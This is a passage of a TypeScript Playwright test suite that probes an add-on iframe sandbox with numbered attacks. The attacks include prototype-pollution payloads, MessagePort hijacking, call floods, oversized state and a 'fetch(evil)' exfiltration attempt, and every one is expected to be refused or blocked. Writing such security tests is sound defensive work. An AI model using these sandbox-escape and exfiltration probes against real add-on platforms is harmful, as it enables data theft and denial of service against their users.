          if (parent.frames[index] !== window) parent.frames[index].postMessage('svc-addon-port', '*', [new MessageChannel().port2]);
        }
        await rest(500);
        note('received', received.length === 0 ? 'null' : 'done: ' + received);
      `,
        targets,
      ),
    );
    await page.goto(`${path}&instance=${neighbour.path.split('=')[1]}`);
    const outcome = await readOutcome();
    expectNothingDone(outcome);
    expect(await page.evaluate('window.stage.calls.length')).toBe(0);
    expect(await page.frameLocator('iframe').nth(1).locator('#addon').textContent()).toBe('neighbour');
  });

  it('[ATTACK-19] call what is not there or was not granted', async () => {
    let called = 0;
    const outcome = await attack(
      `
      await attempt('constructor', () => svc.constructor('return 1')());
      await attempt('plain constructor', () => svc.constructor());
      await attempt('__proto__', () => svc.__proto__.x());
      await attempt('toString', () => svc.toString());
      await attempt('hasOwnProperty', () => svc.data.hasOwnProperty('x'));
      await attempt('prototype', () => svc.data.tables.prototype.list());
      let deep = svc;
      for (let index = 0; index < 10000; index += 1) deep = deep.x;
      await attempt('deep', () => deep());
      await attempt('root', () => svc());
      await attempt('not granted', () => svc.data.tables.createObject('x', { data: {} }));
      await attempt('first party', () => svc.addons.addons.enable('x', { grantedScopes: [] }));
      await attempt('a dot too many', () => svc['data.tables']['list']());
      await attempt('spaces', () => svc['data.tables.list ']());
      await attempt('change the proxy', () => { 'use strict'; svc.data = { tables: {} }; });
      await attempt('await', async () => (await svc) === svc ? 'nothing' : 'another');
    `,
      {
        grantedScopes: ['data.read'],
        call: () => {
          called += 1;
          return {};
        },
      },
    );
    expect(outcome).toMatchObject({
      constructor: 'refused: TypeError',
      'plain constructor': 'refused: ADDON_SCOPE_UNKNOWN',
      __proto__: 'refused: ADDON_SCOPE_UNKNOWN',
      deep: 'refused: ADDON_SCOPE_UNKNOWN',
      root: 'refused: ADDON_SCOPE_UNKNOWN',
      'not granted': 'refused: ADDON_SCOPE_DENIED',
      'first party': 'refused: ADDON_SCOPE_UNKNOWN',
      spaces: 'refused: ADDON_SCOPE_UNKNOWN',
      'change the proxy': 'refused: TypeError',
      await: 'nothing',
    });
    expect(called).toBeLessThanOrEqual(1);
  });

  it('[ATTACK-20] break the channel by what it sends', async () => {
    const seen: unknown[] = [];
    const answers: SiteAnswers = {
      grantedScopes: ['data.read', 'data.write'],
      call: (_method, values) => {
        seen.push(values);
        return {};
      },
    };
    const outcome = await attack(
      `
      await attempt('proto', () => svc.data.tables.createObject('t', JSON.parse('{"__proto__": {"polluted": true}, "data": {}}')));
      const cycle = {}; cycle.self = cycle;
      await attempt('cycle', () => svc.data.tables.createObject('t', cycle));
      await attempt('bigint', () => svc.data.tables.createObject('t', { data: { a: 1n } }));
      await attempt('50 MB', () => svc.data.tables.createObject('t', { data: { a: 'x'.repeat(50 * 1024 * 1024) } }));
      await attempt('too many', () => svc.data.tables.listObjects(1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11));
      await attempt('wrong kind', () => svc.data.tables.listObjects({ toString: 'x' }));
    `,
      answers,
    );
    expect(outcome).toEqual({
      proto: 'refused: VALIDATION_ERROR',
      cycle: 'refused: VALIDATION_ERROR',
      bigint: 'refused: VALIDATION_ERROR',
      '50 MB': 'refused: PAYLOAD_TOO_LARGE',
      'too many': 'refused: VALIDATION_ERROR',
      'wrong kind': 'refused: VALIDATION_ERROR',
    });
    expect(await page.evaluate('({}).polluted')).toBeUndefined();

    for (const [name, send] of [
      ['bytes', 'port.postMessage(new ArrayBuffer(8), [])'],
      ['transferables', 'const bytes = new ArrayBuffer(1024); port.postMessage(bytes, [bytes])'],
      ['objects', 'port.postMessage({ kind: "call" })'],
      ['nonsense', 'port.postMessage("launch {}")'],
      ['a wrong shape', 'port.postMessage("call {\\"id\\":\\"x\\"}")'],
      ['half a text', 'port.postMessage("call {")'],
      ['60 MB', 'port.postMessage("call " + "x".repeat(60 * 1024 * 1024))'],
    ]) {
      // The port itself, taken when the runtime speaks: the app has to hold without the runtime.
      await page.goto(
        site.put(
          `export default () => {
            const post = MessagePort.prototype.postMessage;
            MessagePort.prototype.postMessage = function (...values) { globalThis.port ??= this; return post.apply(this, values); };
            console.info('here');
            setTimeout(() => { const { port } = globalThis; ${send}; }, 50);
            return () => {};
          };`,
          answers,
        ).path,
      );
      await page.getByText('Guest has stopped working').waitFor();
      expect(await page.locator('iframe').count(), name).toBe(0);
    }
  });

  it('[ATTACK-21] flood the app with calls', async () => {
    let called = 0;
    const began = Date.now();
    const outcome = await attack(
      `
      const answers = await Promise.allSettled(Array.from({ length: 10000 }, () => svc.data.tables.list()));
      const codes = answers.map(({ reason }) => reason?.code ?? 'answered');
      note('limited', codes.filter((code) => code === 'ADDON_RATE_LIMITED').length);
      note('answered', codes.filter((code) => code === 'answered').length);
      note('status', answers.find(({ reason }) => reason)?.reason.status);
    `,
      {
        grantedScopes: ['data.read'],
        call: () => {
          called += 1;
          return {};
        },
      },
    );
    const seconds = (Date.now() - began) / 1000;
    const allowed = 60 + 20 * seconds;
    expect(outcome.status).toBe('429');
    expect(Number(outcome.limited)).toBeGreaterThan(10_000 - allowed);
    expect(Number(outcome.limited) + Number(outcome.answered)).toBe(10_000);
    expect(called).toBe(Number(outcome.answered));

    let most = 0;
    let now = 0;
    const waiting = await attack(
      `
      const answers = await Promise.race([Promise.allSettled(Array.from({ length: 1000 }, () => svc.data.tables.list())), rest(1500)]);
      note('in flight', answers === 'nothing' ? 'nothing' : 'done');
    `,
      {
        grantedScopes: ['data.read'],
        call: async () => {
          now += 1;
          most = Math.max(most, now);
          await new Promise((resolve) => setTimeout(resolve, 400));
          now -= 1;
          return {};
        },
      },
    );
    expect(waiting['in flight']).toBe('nothing');
    expect(most).toBeLessThanOrEqual(4);
  });

  it('[ATTACK-22] keep more state than it may, or where it may not', async () => {
    const outcome = await attack(`
      state.set({ kept: 1 });
      await attempt('too large', () => state.set({ large: 'x'.repeat(64 * 1024) }));
      await attempt('too large in UTF-8', () => state.set({ large: 'ü'.repeat(33 * 1024) }));
      await attempt('undefined', () => state.set(undefined));
      await attempt('a cycle', () => { const cycle = {}; cycle.self = cycle; state.set(cycle); });
      note('after', JSON.stringify(state.get()) === '{"kept":1}' ? 'null' : 'done: ' + JSON.stringify(state.get()).slice(0, 50));
      await rest(800);
    `);
    expectNothingDone(outcome);
    expect(outcome['too large']).toBe('refused: PAYLOAD_TOO_LARGE');
    expect([...site.states.values()].at(-1)).toEqual({ state: { kept: 1 }, stateVersion: 1 });

    const kept = site.states.size;
    const readonly = await attack(
      `await attempt('set', () => state.set({ a: 1 })); note('flag', !state.readonly); await rest(600);`,
      { readonly: true },
    );
    expect(readonly).toEqual({ set: 'refused: FORBIDDEN', flag: 'false' });
    expect(site.states.size).toBe(kept);

    await attack(`
      for (let index = 0; index < 1000; index += 1) { state.set({ index, filler: 'x'.repeat(1000) }); if (index % 10 === 0) await rest(8); }
      await rest(900);
    `);
    const { state, stateVersion } = [...site.states.values()].at(-1)!;
    expect(state).toMatchObject({ index: 999 });
    expect(stateVersion).toBeLessThanOrEqual(4);
  });

  it('[ATTACK-24] run where the app does not watch it', async () => {
    const code = toAttack(`await attempt('fetch', () => fetch(evil)); location = evil + '/alone';`, targets);
    const { sha256 } = site.put(code);
    const address = `${site.frameOrigin}/addon-frames/${sha256}`;
    const alone = await context.newPage();
    const reply = await alone.goto(address);
    expect(reply?.status()).toBe(403);
    await alone.waitForTimeout(300);
    expect(alone.url()).toBe(address);
    // In a page of somebody else: the frame names the one page that may hold it.
    const requests: string[] = [];
    alone.on('request', (request) => requests.push(request.url()));
    listener.page = `<iframe src="${address}"></iframe>`;
    await alone.goto(`http://page.${LEAK}:${listener.port}/`);
    await alone.waitForTimeout(500);
    expect(requests.filter((url) => /addon-(bundles|modules)/.test(url))).toEqual([]);
    await alone.close();
  });
});

describe('the tests of the sandbox', () => {
  it('would hear what gets out', async () => {
    const control = await context.newPage();
    listener.page = '<img src="/control">';
    await control.goto(`http://page.${LEAK}:${listener.port}/`);
    await expect.poll(() => listener.heard).toContain('GET /control HTTP/1.1');
    await control.close();
  });

  it('find no trace of a name that was never looked up', async () => {
    await context.close();
    await browser.close();
    const log = readFileSync(netLog, 'utf8');
    expect(log).toContain(`page.${LEAK}`);
    expect(log).not.toContain(`x.${LEAK}`);
    expect(log).not.toContain(`secret-5.${LEAK}`);
  });
});
